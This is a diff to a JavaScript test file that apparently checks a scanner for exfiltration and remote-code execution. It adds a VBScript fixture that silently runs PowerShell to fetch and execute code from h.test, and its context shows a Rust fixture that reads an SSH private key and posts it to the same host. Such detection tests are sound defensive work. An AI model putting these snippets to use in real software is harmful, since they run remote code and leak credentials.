@@ -47,6 +47,11 @@ describe('what leaves and what runs', () => {
       'env:API_KEY network:body h.test',
     ],
     [
+      'vbs',
+      'Set sh = CreateObject("WScript.Shell")\ncmd = "powershell -c iex " & "(iwr https://h.test/x)"\nsh.Run cmd, 0, False',
+      'net shell:code h.test',
+    ],
+    [
       'rs',
       'let key = std::fs::read_to_string("/root/.ssh/id_rsa")?;\nclient\n    .post("https://h.test")\n    .body(key)\n    .send()?;',
       'content:ssh network:body h.test',
